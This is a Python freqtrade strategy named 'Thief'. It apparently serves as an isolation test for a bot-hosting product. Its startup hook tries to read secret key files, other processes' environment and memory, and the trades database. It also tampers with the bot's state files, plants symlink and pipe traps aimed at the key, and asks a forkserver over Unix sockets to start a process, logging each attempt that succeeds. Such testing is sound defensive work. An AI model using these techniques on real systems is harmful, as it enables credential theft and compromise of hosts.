"""Reaches for whatever could be worth something to a thief, or have somebody else do it; logs what it got."""

import json
import logging
import os
import resource
import shutil
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

from freqtrade.strategy import IStrategy
from pandas import DataFrame

logger = logging.getLogger(__name__)


class Thief(IStrategy):
    INTERFACE_VERSION = 3
    timeframe = "1m"
    stoploss = -0.15
    minimal_roi = {"0": 10}  # noqa: RUF012  as strategies are written

    def bot_start(self, **_: Any) -> None:
        own, bot, data = Path.cwd(), Path.cwd().parent, Path.cwd().parents[2]
        for path in (
            data / "secrets" / "demo-key.json",
            data / "secrets" / "gateway-master",
            data / "tradehelm.sqlite",
        ):
            _try(f"read {path.name}", path.read_bytes)
            _try(f"shell {path.name}", lambda path=path: os.popen(f"cat {path}").read() or 1 / 0)
        _try("write the ledger", lambda: (data / "gateway" / "demo.sqlite").open("r+b"))
        _try("list bots", lambda: list((data / "bots").iterdir()))
        for process in Path("/proc").glob("[0-9]*"):
            if int(process.name) != os.getpid():
                _try("environment", (process / "environ").read_bytes)
                _try("memory", lambda process=process: (process / "mem").open("rb"))
        parent = os.getppid()
        _try("end the parent", lambda: os.kill(parent, 0))
        _try("limit the parent", lambda: resource.prlimit(parent, resource.RLIMIT_CORE, (0, 0)))
        _try("open the secrets to all", lambda: (data / "secrets").chmod(0o755))
        _spoil(own, bot)
        _have_another_forked(own, data)
        _leave_traps(own, data / "secrets" / "demo-key.json")
        logger.info("the thief is done")

    def populate_indicators(self, dataframe: DataFrame, metadata: dict[str, Any]) -> DataFrame:
        return dataframe

    populate_entry_trend = populate_exit_trend = populate_indicators


def _spoil(own: Path, bot: Path) -> None:
    """What the product keeps in the bot's folder, and reads again."""
    (own / "mine").write_text('{"pid": 1, "birth": 1, "port": 20100, "created": 1}')
    for name in ("process.json", "process.lock", "rest.json", "guard.json", "config.json", "bot.log"):
        path = bot / name
        _try(f"write {name}", lambda path=path: path.open("r+b"))
        _try(f"remove {name}", path.unlink)
        _try(f"replace {name}", lambda path=path: shutil.copy(own / "mine", own / "new").rename(path))
        _try(f"take {name}", lambda path=path: path.rename(own / path.name))
        _try(f"link {name}", lambda path=path: os.link(path, own / path.name))
    _try("write its strategy", lambda: (bot / "strategies" / "Thief.py").open("a"))
    _try("make a link", lambda: (bot / "link").symlink_to(own))
    _try("make a pipe", lambda: os.mkfifo(bot / "pipe"))
    _try("move its own folder", lambda: own.rename(bot / "other"))
    _try("move the bot's folder", lambda: bot.rename(bot.with_name("other")))


def _have_another_forked(own: Path, data: Path) -> None:
    """By the forkserver, which is not confined: into a folder whose log is the key."""
    trap = own / "trap"
    trap.mkdir(exist_ok=True)
    (trap / "bot.log").symlink_to(data / "secrets" / "demo-key.json")
    known = {line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()}
    doors = [path for path in known if path.startswith(str(data.parents[1])) and path.endswith("/socket")]
    for path in doors:
        for more in ({}, {"token": ""}, {"token": "0" * 43}):
            request = {"op": "start", "folder": str(trap), "port": 20100} | more
            _try(f"a process from {path}", lambda path=path, request=request: _ask(path, request, own / "mine"))
    logger.info("the thief knocked at %s doors", len(doors))


def _ask(path: str, request: dict[str, Any], shown: Path) -> None:
    """Raises where it is refused."""
    with socket.socket(socket.AF_UNIX) as caller, shown.open("r+b") as key:
        caller.settimeout(10)
        caller.connect(path)
        socket.send_fds(caller, [json.dumps(request).encode() + b"\n"], [key.fileno()])
        if not json.loads(caller.recv(100_000) or b'{"ok": false}')["ok"]:
            raise PermissionError


def _leave_traps(own: Path, key: Path) -> None:
    """Where the product reads: a pipe in place of the one database, and links beside the other."""
    os.mkfifo(own / "trades.sqlite")
    (own / "trades-live.sqlite-journal").symlink_to(key)
    logger.info("the thief left traps")


def _try(what: str, deed: Callable[[], object]) -> None:
    try:
        deed()
    except (OSError, ZeroDivisionError):
        return
    logger.info("the thief got: %s", what)
